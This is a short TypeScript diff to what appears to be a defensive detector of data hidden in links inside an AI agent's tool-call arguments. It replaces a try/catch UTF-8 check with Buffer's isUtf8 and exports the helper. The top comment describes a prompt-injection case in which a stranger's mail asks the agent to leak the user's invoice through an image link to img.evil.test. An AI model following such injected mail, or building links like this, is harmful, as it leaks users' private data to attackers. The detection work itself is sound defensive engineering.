@@ -1,3 +1,4 @@
+import { isUtf8 } from 'node:buffer';
 /**
  * What a link in a call's arguments carries (wave 3 outside corpus): a stranger's mail asks the
  * agent to put the user's text into a link — `![](https://img.evil.test/p.gif?q=<the invoice,
@@ -48,14 +49,12 @@ export function linkPayloads(text: string): string[] {
 }
 
 /** A base64 or base64url value's bytes as text, when they are UTF-8 made of printable text. */
-function base64Text(v: string): string | undefined {
+export function base64Text(v: string): string | undefined {
   const bytes = Buffer.from(v.replace(/-/g, '+').replace(/_/g, '/'), 'base64');
-  let s: string;
-  try {
-    s = new TextDecoder('utf-8', { fatal: true }).decode(bytes);
-  } catch {
-    return undefined;
-  }
+  // Checked, not caught: a stranger's text has many runs that are not UTF-8, and a thrown
+  // TypeError per run (TextDecoder's fatal mode) costs more than the decode.
+  if (!isUtf8(bytes)) return undefined;
+  const s = bytes.toString('utf8');
   // eslint-disable-next-line no-control-regex
   return /^[^\x00-\x08\x0E-\x1F\x7F]+$/u.test(s) ? s : undefined;
 }
